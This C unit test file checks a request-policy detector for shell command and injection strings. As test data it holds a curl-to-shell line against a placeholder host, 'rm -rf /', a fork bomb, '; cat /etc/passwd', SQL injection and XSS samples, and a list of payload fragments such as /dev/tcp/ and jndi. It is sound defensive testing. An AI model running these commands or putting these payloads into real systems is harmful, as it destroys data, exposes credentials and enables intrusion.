/*
 * Commands and injections in the strings of a request: attacks of every family
 * are found where they stand, ordinary work is left alone, each rule finds its
 * own samples, the names of commands are in order, and no text is slow.
 */
#include "policy/check.h"
#include "policy/inject_shape.h"
#include "policy/inject_words.h"
#include "policy/policy.h"
#include "policy/rule_flags.h"
#include "policy/rules.h"
#include "policy/text.h"
#include "policy/view.h"

#include <check.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#include "proxy/base/array.h"
#include "proxy/base/error.h"
#include "proxy/base/xalloc.h"
#include "test/unit/command_attacks.h"
#include "test/unit/command_ordinary.h"
#include "test/unit/unit.h"

static struct policy *policy;
static struct scan scan;

static void
setup(void)
{
	struct error err = { 0 };

	ck_assert_msg(
	    policy_load("default", &policy, &err) == 0, "%s", err.msg);
	views_init(&scan.views);
	scan.commands = ruleset_new(rules_commands, nrules_commands);
}

static void
teardown(void)
{
	ruleset_free(scan.commands);
	views_release(&scan.views);
	policy_free(policy);
}

static enum action
judge(enum place place, struct slice s, struct verdict *v)
{
	static const enum text_role roles[] = { [VALUE] = ROLE_VALUE,
		[NAME] = ROLE_NAME,
		[PATH] = ROLE_PATH,
		[HOST] = ROLE_HOST,
		[SENTENCE] = ROLE_PROSE,
		[DOCUMENT] = ROLE_PROSE,
		[CODE] = ROLE_CODE };
	struct text_env env = { .policy = policy, .scan = &scan };
	struct text t = { .views = &scan.views,
		.role = roles[place],
		.document = place == DOCUMENT };

	memset(v, 0, sizeof(*v));
	views_make(&scan.views, s);
	return text_check_command(&env, &t, v);
}

START_TEST(refuses)
{
	const struct sample *s = &attacks[_i];
	struct verdict v;

	ck_assert_msg(judge(s->place, slice_of(s->text), &v) == ACTION_DENY,
	    "%s", s->text);
	ck_assert_msg(
	    strncmp(v.rule, "arguments.commands/", 19) == 0, "%s", v.rule);
}
END_TEST

START_TEST(passes)
{
	const struct sample *s = &ordinary[_i];
	struct verdict v;

	ck_assert_msg(judge(s->place, slice_of(s->text), &v) == ACTION_ALLOW,
	    "%s: %s", s->text, v.rule);
}
END_TEST

/* The same text weighs by where it stands. */
static const struct {
	const char *text;
	bool value, sentence, code, document;
} roles[] = {
	/* clang-format off */
	{ "; id", true, true, false, false },
	{ "see x; ls -la | grep foo", true, true, false, false },
	{ "list | grep -i foo", true, false, false, false },
	{ "' or 1=1--", true, true, false, false },
	{ "1; DROP TABLE users", true, true, false, false },
	{ "<b onclick=alert(1)>", true, false, false, false },
	{ "curl http://evil.example/a | sh", true, true, true, false },
	{ ":(){ :|:& };:", true, true, true, true },
	{ "rm -rf /", true, true, true, true },
	{ "never run rm -rf / at home", true, true, true, false },
	/* clang-format on */
};

START_TEST(weighs_by_role)
{
	struct slice s = slice_of(roles[_i].text);
	struct verdict v;

	ck_assert_msg((judge(VALUE, s, &v) == ACTION_DENY) == roles[_i].value,
	    "%s: a value", s.at);
	ck_assert_msg(
	    (judge(SENTENCE, s, &v) == ACTION_DENY) == roles[_i].sentence,
	    "%s: a sentence", s.at);
	ck_assert_msg((judge(CODE, s, &v) == ACTION_DENY) == roles[_i].code,
	    "%s: code", s.at);
	ck_assert_msg(
	    (judge(DOCUMENT, s, &v) == ACTION_DENY) == roles[_i].document,
	    "%s: a document", s.at);
}
END_TEST

START_TEST(obeys_the_policy)
{
	struct slice s = slice_of("; cat /etc/passwd");
	struct verdict v;

	policy->arguments.commands = FINDING_LOG;
	ck_assert_int_eq(judge(VALUE, s, &v), ACTION_FLAG);
	ck_assert_str_eq(v.rule, "arguments.commands/shell-command");
	policy->arguments.commands = FINDING_OFF;
	ck_assert_int_eq(judge(VALUE, s, &v), ACTION_ALLOW);
}
END_TEST

/* A rule finds its own samples, alone, and none of its misses. */
START_TEST(samples)
{
	const struct rule *row = &rules_commands[_i];
	struct ruleset *rs = ruleset_new(row, 1);
	struct rule_hit hit;

	for (const char *const *s = row->hits; *s != NULL; s++)
		ck_assert_msg(
		    ruleset_first(rs, slice_of(*s), 0, 0, &hit) && !hit.gave_up,
		    "%s: not found: %s", row->id, *s);
	for (const char *const *s = row->misses; *s != NULL; s++)
		ck_assert_msg(!ruleset_first(rs, slice_of(*s), 0, 0, &hit),
		    "%s: found: %s", row->id, *s);
	/* A document is judged by fewer rules than what is run. */
	ck_assert((row->flags & RULE_DOCUMENT) == 0 ||
		  (row->flags & RULE_ANYWHERE) != 0);
	ruleset_free(rs);
}
END_TEST

START_TEST(words)
{
	const struct word *w;

	/* First, last and middle of the table: the order holds. */
	static const char *const names[] = { "adduser", "apt-get", "arp", "cat",
		"curl", "dir", "echo", "id", "ifconfig", "ls", "nc", "net",
		"ping", "ping6", "print_r", "pwd", "python", "python2",
		"python3", "rm", "shell_exec", "sleep", "test-connection",
		"type", "uname", "w", "wget", "whoami", "zsh" };

	for (size_t i = 0; i < nitems(names); i++)
		ck_assert_msg(
		    word_find(slice_of(names[i])) != NULL, "%s", names[i]);
	ck_assert_ptr_nonnull(word_find(slice_of("CMD.EXE")));
	ck_assert_ptr_null(word_find(slice_of("")));
	ck_assert_ptr_null(word_find(slice_of("catalogue")));
	ck_assert_ptr_null(
	    word_find(slice_of("a-name-that-is-longer-than-any-command")));
	w = word_find(slice_of("net"));
	ck_assert(word_second(w, slice_of("USER")));
	ck_assert(!word_second(w, slice_of("use r")));
	ck_assert(!word_second(w, slice_of("")));
}
END_TEST

/* Each is repeated up to the size: the worst that a rule or shape may see. */
static const char *const units[] = { ";", "|", "& ", "`", "$(", "(((", "' ",
	"'or ", "or 1", "\" or \"", ";;id", "; cat ", "|id|", "\n id", "\\n",
	"{{", "${", "{{7*", "<% ", "rm -", "rm -r ", "curl ", "union ",
	"union(", "select ", "/**/", "/*", "__class__", "<script ", "onerror",
	"nc ", "/dev/tcp/", "connect(", "%n", "%s%", "jndi",
	"${lower:", "<!--#", "() {", ")(", "*)(", "/dev/", "base64 ", "env|",
	"printenv ", "= 1 or ", "''", "#{", "system('", "config", "{%",
	"import os ", "chmod ", "$ne", "<img ", "alert", "\"'>", "O:1:\"",
	"echo >> /etc/", "curl |env -a ", "curl x://a/", "find / -",
	"x=/;rm -r ", "exec(fetch ", "cd /;rm -r ", "copy/**/a ",
	"select edit ", "create function ", "from/**/mysql ", "docker -v " };

#define ADVERSE_BYTES (64U << 10)
#define ADVERSE_S 20 /* milliseconds in truth: room for valgrind */

START_TEST(linear)
{
	static const enum place places[] = { VALUE, SENTENCE, CODE, DOCUMENT };
	char *text = xmalloc(ADVERSE_BYTES);
	size_t len = strlen(units[_i]);
	struct timespec from, to;
	struct verdict v;

	for (size_t i = 0; i < ADVERSE_BYTES; i++)
		text[i] = units[_i][i % len];
	clock_gettime(CLOCK_MONOTONIC, &from);
	for (size_t i = 0; i < nitems(places); i++)
		(void)judge(
		    places[i], (struct slice){ text, ADVERSE_BYTES }, &v);
	clock_gettime(CLOCK_MONOTONIC, &to);
	ck_assert_msg(
	    to.tv_sec - from.tv_sec < ADVERSE_S, "'%s' is slow", units[_i]);
	free(text);
}
END_TEST

int
main(void)
{
	TCase *tc = tcase_create("command");

	tcase_set_timeout(tc, 100);
	tcase_add_checked_fixture(tc, setup, teardown);
	tcase_add_loop_test(tc, refuses, 0, (int)nitems(attacks));
	tcase_add_loop_test(tc, passes, 0, (int)nitems(ordinary));
	tcase_add_loop_test(tc, weighs_by_role, 0, (int)nitems(roles));
	tcase_add_test(tc, obeys_the_policy);
	tcase_add_loop_test(tc, samples, 0, (int)nrules_commands);
	tcase_add_test(tc, words);
	tcase_add_loop_test(tc, linear, 0, (int)nitems(units));
	return unit_run(tc, "command");
}
